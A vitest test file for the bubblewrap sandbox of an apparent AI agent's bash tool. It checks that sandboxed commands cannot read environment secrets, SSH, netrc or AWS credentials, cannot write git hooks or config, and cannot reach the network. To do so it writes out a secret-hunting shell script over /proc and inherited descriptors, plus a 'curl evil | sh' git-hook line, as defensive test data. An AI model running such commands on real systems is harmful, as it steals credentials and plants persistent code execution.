import { execFileSync, spawn } from 'node:child_process';
import { closeSync, existsSync, openSync } from 'node:fs';
import { access, chmod, mkdir, mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { ConfigurationError, type Tool, type ToolContext, type ToolOutput } from '@tiny-claw/core';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { survivorsAfter, uniqueSleep } from '../bash/__fixtures__/live-processes.js';
import { type BashToolOptions, createBashTool } from '../bash/index.js';
import { killRunningCommands } from '../bash/live-commands.js';
import { sandboxStatus } from './sandbox-status.js';

const status = sandboxStatus('bwrap');
const usable = status.active === 'bwrap';
const harness = path.join(path.dirname(fileURLToPath(import.meta.url)), '__fixtures__/harness.ts');

let base: string;
let root: string;
/** Outside /tmp (which the sandbox replaces), so what the sandbox shows of it is the real thing. */
let outside: string;

beforeEach(async () => {
  base = await realpath(await mkdtemp(path.join(tmpdir(), 'tc-sandbox-')));
  root = path.join(base, 'w');
  await mkdir(root);
  await writeFile(path.join(root, 'a.txt'), 'A\n');
  const visibleTmp = existsSync('/var/tmp') ? '/var/tmp' : base;
  outside = await realpath(await mkdtemp(path.join(visibleTmp, 'tc-sandbox-outside-')));
});

afterEach(async () => {
  await rm(base, { recursive: true, force: true });
  await rm(outside, { recursive: true, force: true });
});

function ctx(workdir = root): ToolContext {
  return {
    workdir,
    signal: new AbortController().signal,
    toolCallId: 'call-1',
    runId: 'run-1',
    visibleTools: ['bash'],
  };
}

function sandboxed(options: BashToolOptions = {}): Tool {
  return createBashTool({ sandbox: 'bwrap', ...options }) as Tool;
}

async function run(tool: Tool, command: string, extra: Record<string, unknown> = {}) {
  return tool.run(tool.parse({ command, ...extra }), ctx());
}

async function exists(file: string): Promise<boolean> {
  return access(file).then(
    () => true,
    () => false,
  );
}

function hasCommand(name: string): boolean {
  try {
    execFileSync('sh', ['-c', `command -v ${name}`], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

/**
 * Run one command through the bash tool in a separate harness process whose *initial*
 * environment holds `secret` (as `OPENAI_API_KEY`) and whose fd 200 is an open file holding it —
 * what `/proc/<harness>/environ` and an inherited descriptor would give away.
 */
async function runInHarness(
  command: string,
  sandbox: 'bwrap' | 'off',
  secret: string,
): Promise<ToolOutput> {
  const secretFile = path.join(base, 'secret-on-fd-200');
  await writeFile(secretFile, `${secret}\n`);
  const fd = openSync(secretFile, 'r');
  try {
    const child = spawn(
      process.execPath,
      [
        '--conditions=@tiny-claw/source',
        '--import',
        'tsx',
        harness,
        JSON.stringify({ workdir: root, command, sandbox }),
      ],
      {
        env: { ...process.env, OPENAI_API_KEY: secret },
        // A high descriptor: Node keeps low inherited ones from its children, not these.
        stdio: ['ignore', 'pipe', 'pipe', ...new Array(197).fill('ignore'), fd],
      },
    );
    let stdout = '';
    let stderr = '';
    child.stdout?.setEncoding('utf8').on('data', (chunk: string) => {
      stdout += chunk;
    });
    child.stderr?.setEncoding('utf8').on('data', (chunk: string) => {
      stderr += chunk;
    });
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    expect(code, stderr).toBe(0);
    return JSON.parse(stdout) as ToolOutput;
  } finally {
    closeSync(fd);
  }
}

// Every place a command could find the harness's secret: all environments it can see, `ps e`,
// the harness's own /proc entry and its ancestors' (by pid and by walking $PPID), and every open
// descriptor beyond stdio.
const SECRET_HUNT = [
  "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'",
  'ps e -A -ww 2>/dev/null',
  "tr '\\0' '\\n' < /proc/{HARNESS_PID}/environ 2>/dev/null",
  // Printed words are built at run time: `ps e` shows this very command line.
  'kill -0 {HARNESS_PID} 2>/dev/null && echo HARNESS-$((6 * 7))-REACHABLE',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
  "p=$PPID; while [ \"${p:-0}\" -gt 1 ]; do tr '\\0' '\\n' < /proc/$p/environ 2>/dev/null; p=$(cut -d' ' -f4 /proc/$p/stat 2>/dev/null); done",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
  'for f in /proc/$$/fd/*; do n=${f##*/}; [ -e "$f" ] || continue; echo "fd:$n"; case $n in 0|1|2) ;; *) timeout 2 cat "$f" 2>/dev/null ;; esac; done',
  'echo "E""ND"',
].join('\n');

describe.runIf(usable)('bash in the bubblewrap sandbox', () => {
  it("cannot read the harness's secret environment: not through /proc/*/environ, ps e, the harness's or its ancestors' /proc entries, nor an inherited descriptor", async () => {
    const secret = `sk-test-${Date.now()}-harness-secret-0123456789`;
    const out = await runInHarness(SECRET_HUNT, 'bwrap', secret);
    expect(out.content).toContain('END');
    expect(out.content).not.toContain(secret);
    expect(out.content).not.toContain('HARNESS-42-REACHABLE');
    expect(out.content.match(/fd:\d+/g)).toEqual(['fd:0', 'fd:1', 'fd:2']);
  });

  it('cannot read a credential in a hidden directory or file outside the workdir, and the advice names TINY_CLAW_SANDBOX=off', async () => {
    const home = path.join(outside, 'home');
    await mkdir(path.join(home, '.ssh'), { recursive: true });
    await writeFile(path.join(home, '.ssh', 'id_rsa'), 'PRIVATE-KEY-MATERIAL\n');
    await writeFile(path.join(home, '.netrc'), 'machine x password hunter2\n');
    await writeFile(path.join(home, 'notes.txt'), 'not a secret\n');
    await mkdir(path.join(outside, 'vault'));
    await writeFile(path.join(outside, 'vault', 'token'), 'VAULT-TOKEN\n');
    const tool = sandboxed({
      env: { ...process.env, HOME: home },
      sandbox: { mode: 'bwrap', hide: [path.join(outside, 'vault')] },
    });
    const key = await run(tool, 'cat ~/.ssh/id_rsa');
    expect(key.isError).toBe(true);
    expect(key.content).not.toContain('PRIVATE-KEY-MATERIAL');
    expect(key.metadata?.sandbox_block).toBe('hidden_path');
    expect(key.failure?.advice).toContain('TINY_CLAW_SANDBOX=off');
    const netrc = await run(tool, 'cat "$HOME/.netrc"');
    expect(netrc.isError).toBe(true);
    expect(netrc.content).not.toContain('hunter2');
    expect((await run(tool, 'ls -A ~/.ssh')).content).toContain('(no output)');
    const vault = await run(tool, `cat ${path.join(outside, 'vault', 'token')}`);
    expect(vault.content).not.toContain('VAULT-TOKEN');
    // What is not hidden stays readable, read-only.
    expect((await run(tool, 'cat ~/notes.txt')).content).toContain('not a secret');
  });

  it('keeps a workdir inside a hidden directory usable while the rest of that directory stays hidden', async () => {
    const home = path.join(outside, 'home');
    const project = path.join(home, '.aws', 'project');
    await mkdir(project, { recursive: true });
    await writeFile(path.join(home, '.aws', 'credentials'), 'AWS-SECRET\n');
    await writeFile(path.join(project, 'a.txt'), 'inside\n');
    const tool = createBashTool({
      sandbox: 'bwrap',
      workdir: project,
      env: { ...process.env, HOME: home },
    }) as Tool;
    const out = await tool.run(
      tool.parse({ command: 'cat a.txt && echo new > b.txt && cat ../credentials' }),
      ctx(project),
    );
    expect(out.content).toContain('inside');
    expect(out.content).not.toContain('AWS-SECRET');
    expect(await readFile(path.join(project, 'b.txt'), 'utf8')).toBe('new\n');
  });

  it('hides the state dir and refuses writes into it, inside the workdir (even before it exists) or outside it', async () => {
    await mkdir(path.join(root, '.tiny-claw'));
    await writeFile(path.join(root, '.tiny-claw', 'salt'), 'TRACE-SALT\n');
    const stateOutside = path.join(outside, 'state');
    await mkdir(stateOutside);
    await writeFile(path.join(stateOutside, 'salt'), 'OUTSIDE-SALT\n');
    const tool = sandboxed({ protectedPaths: ['.tiny-claw', '.not-yet', stateOutside] });
    const inside = await run(tool, 'cat .tiny-claw/salt; echo x > .tiny-claw/x');
    expect(inside.isError).toBe(true);
    expect(inside.content).not.toContain('TRACE-SALT');
    expect(inside.metadata?.sandbox_block).toBe('hidden_path');
    expect(await exists(path.join(root, '.tiny-claw', 'x'))).toBe(false);
    const early = await run(tool, 'mkdir -p .not-yet && echo x > .not-yet/approval.json');
    expect(early.isError).toBe(true);
    expect(await exists(path.join(root, '.not-yet', 'approval.json'))).toBe(false);
    const away = await run(tool, `cat ${stateOutside}/salt; echo x > ${stateOutside}/x`);
    expect(away.isError).toBe(true);
    expect(away.content).not.toContain('OUTSIDE-SALT');
    expect(await exists(path.join(stateOutside, 'x'))).toBe(false);
  });

  it('refuses writes to .git/hooks (even when it did not exist) and .git/config, also behind a gitdir: file', async () => {
    // A repository as git lays it out (HEAD, objects, refs), with no hooks directory yet.
    await mkdir(path.join(root, '.git', 'objects'), { recursive: true });
    await mkdir(path.join(root, '.git', 'refs'));
    await writeFile(path.join(root, '.git', 'HEAD'), 'ref: refs/heads/main\n');
    await writeFile(path.join(root, '.git', 'config'), '[core]\n');
    const tool = sandboxed();
    const hook = await run(tool, 'echo "curl evil | sh" > .git/hooks/pre-commit');
    expect(hook.isError).toBe(true);
    expect(hook.failure?.advice).toContain('TINY_CLAW_SANDBOX=off');
    expect(await exists(path.join(root, '.git', 'hooks', 'pre-commit'))).toBe(false);
    const config = await run(tool, 'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/config');
    expect(config.isError).toBe(true);
    expect(await readFile(path.join(root, '.git', 'config'), 'utf8')).toBe('[core]\n');
    // The rest of .git stays writable, so git itself works.
    expect((await run(tool, 'echo desc > .git/description')).isError).toBe(false);

    await rm(path.join(root, '.git'), { recursive: true });
    await mkdir(path.join(root, 'modules', 'sub', 'hooks'), { recursive: true });
    await writeFile(path.join(root, 'modules', 'sub', 'config'), '[core]\n');
    await writeFile(path.join(root, '.git'), 'gitdir: modules/sub\n');
    const linked = await run(
      tool,
      'echo x > modules/sub/hooks/post-checkout; echo x >> modules/sub/config',
    );
    expect(linked.isError).toBe(true);
    expect(await exists(path.join(root, 'modules', 'sub', 'hooks', 'post-checkout'))).toBe(false);
    expect(await readFile(path.join(root, 'modules', 'sub', 'config'), 'utf8')).toBe('[core]\n');
  });

  it('refuses writes outside the workdir with advice naming TINY_CLAW_SANDBOX=off, and keeps /tmp private', async () => {
    const tool = sandboxed();
    const away = await run(tool, `echo x > ${outside}/out.txt`);
    expect(away.isError).toBe(true);
    expect(away.metadata?.sandbox_block).toBe('read_only');
    expect(away.failure?.advice).toContain('TINY_CLAW_SANDBOX=off');
    expect(await exists(path.join(outside, 'out.txt'))).toBe(false);
    const name = `tc-private-${process.pid}-${Date.now()}`;
    const scratch = await run(tool, `echo private > /tmp/${name} && cat /tmp/${name}`);
    expect(scratch.content).toContain('private');
    expect(await exists(path.join('/tmp', name))).toBe(false);
    expect((await run(tool, 'echo ok > made.txt')).isError).toBe(false);
    expect(await readFile(path.join(root, 'made.txt'), 'utf8')).toBe('ok\n');
  });

  describe('the network', () => {
    let server: Server;
    let port: number;
    let requests: number;
    beforeEach(async () => {
      requests = 0;
      server = createServer((_request, response) => {
        requests += 1;
        response.end('pong');
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      port = (server.address() as AddressInfo).port;
    });
    afterEach(async () => {
      await new Promise<void>((resolve) => server.close(() => resolve()));
    });

    it('is unreachable while it is off, even on loopback, with advice naming TINY_CLAW_SANDBOX_NETWORK=on', async () => {
      const tool = sandboxed();
      const tcp = await run(tool, `echo hi > /dev/tcp/127.0.0.1/${port}`);
      expect(tcp.isError).toBe(true);
      if (hasCommand('curl')) {
        const curl = await run(tool, `curl -sS -m 5 http://127.0.0.1:${port}/`);
        expect(curl.isError).toBe(true);
        expect(curl.content).not.toContain('pong');
      }
      expect(requests).toBe(0);
      // A documentation-only address (TEST-NET-1): without a network there is no route at all.
      const unreachable = await run(tool, 'exec 3<>/dev/tcp/192.0.2.1/80');
      expect(unreachable.metadata?.sandbox_block).toBe('network');
      expect(unreachable.failure?.advice).toContain('TINY_CLAW_SANDBOX_NETWORK=on');
    });

    it('is reachable when it is on', async () => {
      const tool = sandboxed({ sandbox: { mode: 'bwrap', network: true } });
      const tcp = await run(
        tool,
        `printf 'GET / HTTP/1.0\\r\\n\\r\\n' > /dev/tcp/127.0.0.1/${port}`,
      );
      expect(tcp.isError, tcp.content).toBe(false);
      if (hasCommand('curl')) {
        const curl = await run(tool, `curl -sS -m 5 http://127.0.0.1:${port}/`);
        expect(curl.content).toContain('pong');
      }
      expect(requests).toBeGreaterThan(0);
    });
  });

  it('lets nothing a command starts survive it, not even env -i setsid children', async () => {
    const tool = sandboxed();
    const markers = [uniqueSleep(), uniqueSleep(), uniqueSleep()];
    const out = await run(
      tool,
      [
        `env -i setsid sleep ${markers[0]} > /dev/null 2>&1 &`,
        `setsid sleep ${markers[1]} > /dev/null 2>&1 &`,
        `(env -i /bin/sh -c 'sleep ${markers[2]}' > /dev/null 2>&1 &)`,
        'echo started',
      ].join('\n'),
    );
    expect(out.content).toContain('started');
    expect(out.metadata?.leftovers_killed).toBe(true);
    for (const marker of markers) expect(await survivorsAfter(marker, 3_000)).toEqual([]);
  });

  it('still sends SIGTERM before SIGKILL on a timeout, and kills what ignores it', async () => {
    const tool = sandboxed();
    const marker = uniqueSleep();
    const graceful = await run(tool, `trap 'echo got-term; exit 3' TERM; sleep ${marker} & wait`, {
      timeout_seconds: 1,
    });
    expect(graceful.metadata?.exit_code).toBe(124);
    expect(graceful.content).toContain('got-term');
    const stubborn = await run(tool, `trap '' TERM; sleep ${marker}`, { timeout_seconds: 1 });
    expect(stubborn.metadata?.timed_out).toBe(true);
    expect(await survivorsAfter(marker, 3_000)).toEqual([]);
  });

  it('reports a sandbox that could not be set up as sandbox_failed, naming TINY_CLAW_SANDBOX=off', async () => {
    await mkdir(path.join(root, 'private', 'sub'), { recursive: true });
    const tool = sandboxed({ sandbox: { mode: 'bwrap', hide: [path.join(root, 'private')] } });
    const out = await run(tool, 'pwd', { cwd: 'private/sub' });
    expect(out.failure?.code).toBe('sandbox_failed');
    expect(out.failure).toMatchObject({ kind: 'execution_error' });
    expect(out.failure?.advice).toContain('TINY_CLAW_SANDBOX=off');
  });

  it('tells the model about the sandbox in the tool description', () => {
    expect(sandboxed().description).toContain('no network access');
    expect(sandboxed({ sandbox: { mode: 'bwrap', network: true } }).description).not.toContain(
      'no network',
    );
  });
});

describe.skipIf(usable)('bash in the bubblewrap sandbox', () => {
  it(`is not tested here: ${status.reason}`, () => {});
});

describe('bash without the sandbox', () => {
  it('still runs commands, unconfined, and says so', async () => {
    const tool = createBashTool({ sandbox: 'off' }) as Tool;
    const out = await run(tool, `echo x > ${outside}/off.txt && echo done`);
    expect(out.content).toContain('done');
    expect(out.metadata?.sandbox).toBe('off');
    expect(await readFile(path.join(outside, 'off.txt'), 'utf8')).toBe('x\n');
    expect(sandboxStatus('off')).toMatchObject({ mode: 'off', active: 'off' });
    expect(sandboxStatus('off').reason).toContain('TINY_CLAW_SANDBOX=off');
  });

  it('passes no descriptor beyond stdio to the command', async () => {
    const secret = `sk-test-${Date.now()}-fd-secret-0123456789`;
    const out = await runInHarness(SECRET_HUNT.split('\n').slice(5).join('\n'), 'off', secret);
    expect(out.content).toContain('END');
    expect(out.content).not.toContain(secret);
    expect(out.content.match(/fd:\d+/g)).toEqual(['fd:0', 'fd:1', 'fd:2']);
  });
});

describe.each(usable ? (['bwrap', 'off'] as const) : (['off'] as const))(
  'when the harness exits (sandbox %s)',
  (mode) => {
    it('kills every running command at once, from the exit hook', async () => {
      const tool = createBashTool({ sandbox: mode }) as Tool;
      const marker = uniqueSleep();
      const gate = path.join(root, 'started');
      const running = run(tool, `touch started; sleep ${marker}; echo not-reached`);
      while (!(await exists(gate))) await delay(20);
      expect(process.listeners('exit')).toContain(killRunningCommands);
      killRunningCommands();
      const out = await running;
      expect(out.content).not.toContain('not-reached');
      expect(await survivorsAfter(marker, 3_000)).toEqual([]);
    });
  },
);

describe('choosing the sandbox', () => {
  it.runIf(usable)('auto picks bubblewrap where it works and says which', () => {
    expect(sandboxStatus('auto')).toMatchObject({ mode: 'auto', active: 'bwrap' });
    expect(sandboxStatus('auto').reason).toMatch(/^bubblewrap \d+\.\d+\.\d+ works here \(/);
    expect(sandboxStatus({ network: true }).reason).toContain('TINY_CLAW_SANDBOX_NETWORK=on');
  });

  it('auto without bubblewrap falls back to off once, with the reason', () => {
    const bwrapPath = path.join(base, 'no-such-bwrap');
    const fallback = sandboxStatus({ mode: 'auto', bwrapPath });
    expect(fallback).toMatchObject({ mode: 'auto', active: 'off' });
    expect(fallback.reason).toContain(`no executable bwrap at ${bwrapPath}`);
    const onSandboxFallback = vi.fn();
    const tool = createBashTool({ sandbox: { mode: 'auto', bwrapPath }, onSandboxFallback });
    expect(onSandboxFallback).toHaveBeenCalledTimes(1);
    expect(onSandboxFallback).toHaveBeenCalledWith(fallback);
    expect(tool.description).not.toContain('sandbox');
  });

  it('bwrap that cannot work is a ConfigurationError naming what is missing and the setting to change', () => {
    const bwrapPath = path.join(base, 'no-such-bwrap');
    let error: unknown;
    try {
      createBashTool({ sandbox: { mode: 'bwrap', bwrapPath } });
    } catch (caught) {
      error = caught;
    }
    expect(error).toBeInstanceOf(ConfigurationError);
    expect((error as Error).message).toContain(`no executable bwrap at ${bwrapPath}`);
    expect((error as Error).message).toContain('TINY_CLAW_SANDBOX=auto');
  });

  it.runIf(process.platform === 'linux')(
    'a bubblewrap that cannot create namespaces is reported with its own words, not used',
    async () => {
      const fake = path.join(base, 'bwrap');
      await writeFile(
        fake,
        '#!/bin/sh\n[ "$1" = --version ] && { echo "bubblewrap 9.9.9"; exit 0; }\necho "bwrap: No permissions to create new namespace" >&2\nexit 1\n',
      );
      await chmod(fake, 0o755);
      const probe = sandboxStatus({ mode: 'auto', bwrapPath: fake });
      expect(probe.active).toBe('off');
      expect(probe.reason).toContain('cannot create its namespaces here');
      expect(probe.reason).toContain('No permissions to create new namespace');
    },
  );
});
